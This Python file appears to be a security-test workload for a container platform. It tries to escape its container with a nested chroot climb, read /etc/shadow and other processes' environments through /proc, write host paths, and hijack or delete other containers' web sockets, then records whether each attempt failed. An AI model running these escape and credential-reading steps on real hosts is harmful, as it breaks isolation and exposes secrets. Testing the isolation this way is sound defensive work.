"""User code that tries to leave a container of an image with its own root file system (`run_commands`):
such a container used to be host root in a chroot, with the host's processes in view. Each attempt is
reported as data; the test (`test_escape_rootfs.py`) says what must have failed.
"""

import json
import os
import subprocess
import sys
import tempfile

import modal

image = modal.Image.debian_slim().run_commands("echo from the image > /etc/hp-image-marker")
app = modal.App("escape-rootfs", image=image)


# The same attacks as `escape_web.py`'s, on the web socket directory.
def _attempt(action, *args) -> str:
    try:
        action(*args)
        return "done"
    except OSError as exc:
        return type(exc).__name__


def _attacks() -> dict:
    """Every way to put a socket of its own where the gateway looks for another container's."""
    mine = os.path.dirname(os.environ["HOMEPORT_WEB_SOCKET"])  # its own directory
    shared = os.path.dirname(mine)
    out: dict = {"cid": os.environ["HOMEPORT_CONTAINER_ID"], "entries": sorted(os.listdir(shared))}
    with open("/proc/self/uid_map") as f:
        out["uid_map"] = f.read().split()
    out["pids"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    out["own"] = _attempt(lambda: open(os.path.join(mine, "note"), "w").close())
    out["plant"] = _attempt(lambda: open(os.path.join(shared, "hp-planted"), "w").close())
    out["mkdir"] = _attempt(os.mkdir, os.path.join(shared, "ta-000000000000"))
    out["others"] = {}
    for entry in out["entries"]:
        path = os.path.join(shared, entry)
        if path == mine:
            continue
        tried = {"rename": _attempt(os.rename, path, path + "-moved"),
                 "symlink_over": _attempt(lambda p=path: (os.rename(p, p + "-old"), os.symlink(mine, p)))}
        if os.path.isdir(path):
            for name in os.listdir(path):  # a directory it cannot read lists nothing: that is fine
                tried[name] = _attempt(os.unlink, os.path.join(path, name))
        out["others"][entry] = tried
    return out


def _read(path: str) -> str:
    with open(path, "rb") as f:
        return f.read(64).decode(errors="replace")


def _write(path: str) -> None:
    with open(path, "w") as f:
        f.write("escaped")


def _out_of_chroot(targets: dict) -> dict:
    """The classic way out of a chroot, as root: chroot into a directory below, then climb past it."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        out = {}
        try:
            os.makedirs("/tmp/hp-climb", exist_ok=True)
            os.chroot("/tmp/hp-climb")
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
            out["climbed"] = "done"
        except OSError as exc:
            out["climbed"] = type(exc).__name__
        out["reads"] = {p: _attempt(_read, p) for p in targets["read"]}
        out["writes"] = {p: _attempt(_write, p) for p in targets["write"]}
        os.write(w, json.dumps(out).encode())
        os._exit(0)
    os.close(w)
    with os.fdopen(r, "rb") as f:
        data = f.read()
    os.waitpid(pid, 0)
    return json.loads(data)


@app.function()
def look(targets: dict) -> dict:
    """`targets`: host paths and pids, from the test: {"write": [...], "read": [...], "pids": [...]}."""
    with open("/proc/self/uid_map") as f:
        uid_map = f.read().split()
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    return {
        "cid": os.environ["HOMEPORT_CONTAINER_ID"],
        "uid_map": uid_map,
        "pids": pids,
        "marker": _read("/etc/hp-image-marker").strip(),
        "image_write": _attempt(_write, "/etc/hp-image-write"),  # its image is its own to write, as in Modal
        "image_append": _attempt(lambda: open("/etc/hostname", "a").write("")),
        "shadow": _attempt(_read, "/etc/shadow"),  # root of its image reads root's files there
        "writes": {p: _attempt(_write, p) for p in targets["write"]},
        "reads": {p: _attempt(_read, p) for p in targets["read"]},
        # Through a host process's root: its view of the host, the state directory included.
        "through_proc": {str(pid): _attempt(_read, f"/proc/{pid}/root{path}")
                         for pid in targets["pids"] for path in targets["read"]},
        "environ": {str(pid): _attempt(_read, f"/proc/{pid}/environ") for pid in targets["pids"]},
        "chroot": _out_of_chroot(targets),
    }


@app.cls(enable_memory_snapshot=True)
class Snapshotted:
    """The same from a class with a memory snapshot, whose snap hook would run as host root in the
    image's root: such a snapshot is not taken there, and its containers start afresh, as isolated."""

    @modal.enter(snap=True)
    def load(self):
        self.snap_uid_map = open("/proc/self/uid_map").read().split()

    @modal.method()
    def look(self, targets: dict) -> dict:
        return {**look.local(targets), "snap_uid_map": self.snap_uid_map}


# Its own HTTP server (a `web_server`: started afresh, not forked), serving what its attacks on the
# other containers' web sockets achieved.
@app.function()
@modal.web_server(8000, startup_timeout=60)
def attacker():
    where = tempfile.mkdtemp()
    with open(os.path.join(where, "results.json"), "w") as f:
        json.dump(_attacks(), f)
    subprocess.Popen([sys.executable, "-m", "http.server", "8000", "--directory", where],
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


@app.function()
@modal.web_server(8000, startup_timeout=60)
def victim():
    where = tempfile.mkdtemp()
    with open(os.path.join(where, "index.html"), "w") as f:
        f.write("victim")
    subprocess.Popen([sys.executable, "-m", "http.server", "8000", "--directory", where],
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
